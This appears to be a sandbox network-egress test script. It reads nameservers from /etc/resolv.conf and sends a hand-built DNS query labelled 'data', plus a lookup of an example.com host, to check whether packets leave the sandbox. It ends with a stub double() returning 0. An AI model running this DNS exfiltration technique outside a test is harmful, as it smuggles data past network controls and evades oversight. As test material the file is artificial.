# about: Asks for the address of a host by name, and sends data out in the question.
# prints: tried

# %% double
import socket

if socket.gethostname() != "sandbox":
    raise RuntimeError("only for a sandbox: it speaks to others")

import socket
import struct
import threading


def ask():
    try:
        print("__WON__", socket.getaddrinfo("data-of-the-lab.example.com", 80))
    except OSError as error:
        print(error)


thread = threading.Thread(target=ask, daemon=True)
thread.start()
servers = ["198.51.100.53"]
try:
    with open("/etc/resolv.conf") as file:
        servers += [line.split()[1] for line in file if line.startswith("nameserver")]
except OSError as error:
    print(type(error))
name = b"\x04data\x07example\x03com\0"
question = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + name + b"\0\x01\0\x01"
for server in servers:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as near:
            near.settimeout(0.5)
            near.sendto(question, (server, 53))
            near.recv(512)
        print("__WON__", server)
    except TimeoutError:
        print("__WON__" if not server.startswith("127.") else "", server, "a packet went out")
    except OSError as error:
        print(server, error)
thread.join(2)
print("tried")


def double(x):
    return 0
